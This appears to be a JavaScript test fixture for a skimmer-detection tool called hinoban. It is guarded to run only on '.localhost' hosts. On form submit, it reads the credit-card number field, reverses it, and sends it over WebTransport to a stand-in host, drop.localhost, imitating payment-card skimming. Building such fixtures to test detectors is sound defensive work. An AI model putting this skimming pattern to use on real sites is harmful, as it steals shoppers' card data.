/* Harmless imitation, for hinoban's tests: WebTransport address. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	document.addEventListener('submit', function () {
		var n = document.querySelector('input[autocomplete=cc-number]');
		if (!n) return;
		new WebTransport('https://drop.localhost:' + location.port + '/t/' + n.value.split('').reverse().join('')).ready.catch(function () {});
	}, true);
})();
